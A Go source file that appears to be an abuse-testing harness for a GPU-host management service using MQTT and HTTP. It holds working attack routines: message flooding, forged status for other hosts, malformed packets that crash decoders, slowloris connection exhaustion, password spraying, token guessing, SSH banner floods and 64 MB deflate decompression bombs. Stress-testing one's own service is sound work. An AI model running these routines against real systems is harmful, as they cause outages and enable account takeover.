package main

import (
	"bytes"
	"compress/flate"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"github.com/eclipse/paho.golang/paho"

	"github.com/remotegpu/remotegpu/protocol"
)

// device is a host of ours with a connection; each thread of an attack has one.
type device struct {
	identity
	conn *paho.Client
	raw  net.Conn
	seq  uint64
}

var devices sync.Map // thread → *device

// device returns the thread's, and joins as one where there is none.
func (p *peer) device(thread int) (*device, error) {
	if d, ok := devices.Load(thread); ok {
		return d.(*device), nil
	}
	id, err := p.enroll()
	if err != nil {
		return nil, err
	}
	d := &device{identity: id}
	devices.Store(thread, d)
	return d, nil
}

// say publishes at QoS 0, as fast as the line takes it.
func (p *peer) say(thread int, topic string, payload []byte) error {
	d, err := p.device(thread)
	if err != nil {
		return err
	}
	if d.conn == nil {
		if d.conn, d.raw, err = p.connect(d.identity, nil, nil); err != nil {
			d.conn = nil
			return err
		}
	}
	if _, err = d.conn.Publish(p.ctx, &paho.Publish{Topic: protocol.HostTopic(d.host, topic), Payload: payload}); err != nil {
		d.raw.Close()
		d.conn = nil
	}
	return err
}

func (p *peer) status(thread int, change func(*protocol.Status)) error {
	d, err := p.device(thread)
	if err != nil {
		return err
	}
	d.seq++
	st := protocol.Status{Version: protocol.Version, Epoch: 1, Seq: d.seq}
	change(&st)
	b, err := protocol.Marshal(st)
	if err != nil {
		return err
	}
	return p.say(thread, protocol.TopicStatus, b)
}

func (p *peer) flood(thread int) error {
	return p.status(thread, func(st *protocol.Status) {
		st.Workloads = make([]protocol.WorkloadStatus, 100)
		for i := range st.Workloads {
			st.Workloads[i] = protocol.WorkloadStatus{ID: fmt.Sprint(i), Phase: protocol.PhaseRunning, Message: strings.Repeat("x", 1000)}
		}
	})
}

// forge says what is another host's, what is too much, and what is no text.
func (p *peer) forge(thread int) error {
	err := p.status(thread, func(st *protocol.Status) {
		st.Observed, st.Applied = 1<<40, 1<<40
		st.Workloads = []protocol.WorkloadStatus{{ID: p.Target, Revision: 1 << 40, Phase: protocol.PhaseFailed, Message: "forged"}}
		st.Events = []protocol.Event{{Seq: st.Seq, Severity: protocol.SeverityWarning, Reason: "Forged", Message: "zero\x00byte", Workload: p.Target}}
	})
	many := p.status(thread, func(st *protocol.Status) { st.Workloads = make([]protocol.WorkloadStatus, 100_000) })
	raw := p.say(thread, protocol.TopicStatus, []byte("\xa1\x01\x62\xff\xfe")) // {1: a text that is not UTF-8}
	hello := p.say(thread, protocol.TopicHello, bytes.Repeat([]byte{0x9f}, protocol.MaxPayload-100))
	d, open := p.device(thread)
	if open != nil || d.conn == nil {
		return errors.Join(err, many, raw, hello, open)
	}
	_, other := d.conn.Publish(p.ctx, &paho.Publish{Topic: protocol.HostTopic(p.Victim, protocol.TopicStatus), Payload: []byte("x")})
	return errors.Join(err, many, raw, hello, other)
}

// cryWolf reports security events: each is a row, and an audit entry.
func (p *peer) cryWolf(thread int) error {
	return p.status(thread, func(st *protocol.Status) {
		st.Events = make([]protocol.Event, protocol.MaxEvents)
		for i := range st.Events {
			st.Events[i] = protocol.Event{Seq: st.Seq*protocol.MaxEvents + uint64(i), Severity: protocol.SeveritySecurity, Reason: "Wolf", Message: strings.Repeat("wolf ", 800)}
		}
	})
}

func (p *peer) wills(thread int) error {
	d, err := p.device(thread)
	if err != nil {
		return err
	}
	d.seq++
	gone, err := protocol.Marshal(protocol.Presence{Version: protocol.Version, Epoch: d.seq})
	if err != nil {
		return err
	}
	born, err := protocol.Marshal(protocol.Presence{Version: protocol.Version, Epoch: d.seq, Online: true})
	if err != nil {
		return err
	}
	topic := protocol.HostTopic(d.host, protocol.TopicPresence)
	c, conn, err := p.connect(d.identity, &paho.WillMessage{Topic: topic, Payload: gone, QoS: 1, Retain: true}, nil)
	if err != nil {
		return err
	}
	_, err = c.Publish(p.ctx, &paho.Publish{Topic: topic, Payload: born, QoS: 1})
	conn.Close() // no DISCONNECT: the will is said
	return err
}

// malformed says to the broker, once it is in, what made a decoder panic.
func (p *peer) malformed(thread int) error {
	d, err := p.device(thread)
	if err != nil {
		return err
	}
	_, conn, err := p.connect(d.identity, nil, nil)
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = conn.Write([]byte("\x82\x06\x00\x01\x00\x00\x01x"))
	return err
}

func (p *peer) labels(int) error {
	in := map[string]any{"token": p.Join, "labels": map[string]string{"a": strings.Repeat("x", 1<<20)}, "name": strings.Repeat("x", 1<<19)}
	return p.post("/api/v1/agent/enroll", in, nil)
}

// certificates asks for one after the other, each of which is signed.
func (p *peer) certificates(thread int) error {
	d, err := p.device(thread)
	if err == nil {
		_, err = p.certificate(d.identity)
	}
	return err
}

// loris holds as many connections to a port as it gets, and says little on each.
func (p *peer) loris(port string) error {
	var held []net.Conn
	defer func() {
		for _, c := range held {
			c.Close()
		}
	}()
	for range 2000 {
		c, err := net.DialTimeout("tcp", net.JoinHostPort(p.Address, port), time.Second)
		if err != nil {
			return err
		}
		held = append(held, c)
		p.done.Add(1)
	}
	for range 50 {
		for _, c := range held {
			c.Write([]byte{0x16}) // of a TLS record; it may be gone
		}
		time.Sleep(100 * time.Millisecond)
	}
	return nil
}

func (p *peer) passwords(thread int) error {
	return p.post("/api/v1/login", map[string]string{"email": fmt.Sprintf("user%d@example.org", thread), "password": "Winter2026!"}, nil)
}

func (p *peer) tokens(thread int) error {
	return p.do(http.MethodGet, "/api/v1/hosts", fmt.Sprintf("rgt_guess%d-%d", thread, p.done.Load()), nil, nil)
}

func (p *peer) banners(int) error {
	c, err := net.DialTimeout("tcp", net.JoinHostPort(p.Address, p.SSH), 10*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(2 * time.Second))
	_, _ = io.WriteString(c, "SSH-2.0-OpenSSH_9\r\n"+strings.Repeat("\x00\x00\x00\x0c\x0a\x02aaaaaaaaaa", 1000)) // it may be cut
	said, err := io.ReadAll(c)
	if err == nil {
		err = fmt.Errorf("%.100q", said)
	}
	return err
}

var bomb = sync.OnceValue(func() []byte {
	var b bytes.Buffer
	z, _ := flate.NewWriter(&b, flate.BestCompression) // the level is one that there is
	for range 64 {
		_, _ = z.Write(make([]byte, 1<<20)) // memory does not fail
	}
	_ = z.Flush()
	return b.Bytes()
})

// bombs sends 64 MB of nothing, deflated, in a WebSocket's frame and in the body
// of a request.
func (p *peer) bombs(int) error {
	c, err := p.dial(p.HTTPS)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	_, err = io.WriteString(c, "GET /mqtt HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"+
		"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Protocol: mqtt\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n")
	if err != nil {
		return err
	}
	if _, err := c.Read(make([]byte, 4096)); err != nil {
		return err
	}
	frame := binary.BigEndian.AppendUint64([]byte{0xc2, 0xff}, uint64(len(bomb())))
	_, _ = c.Write(append(append(frame, 0, 0, 0, 0), bomb()...)) // it may be cut
	req, err := http.NewRequestWithContext(p.ctx, http.MethodPost, p.url("/api/v1/login"), bytes.NewReader(bomb()))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Encoding", "deflate")
	req.Header.Set("Content-Type", "application/json")
	res, err := p.client.Do(req)
	if err != nil {
		return err
	}
	return errors.Join(errors.New(res.Status), res.Body.Close())
}

func (p *peer) headers(int) error {
	req, err := http.NewRequestWithContext(p.ctx, http.MethodGet, p.url("/api/v1/hosts"), nil)
	if err != nil {
		return err
	}
	for i := range 100 {
		req.Header.Set(fmt.Sprintf("X-Header-%d", i), strings.Repeat("x", 10_000))
	}
	res, err := p.client.Do(req)
	if err != nil {
		return err
	}
	return errors.Join(errors.New(res.Status), res.Body.Close())
}
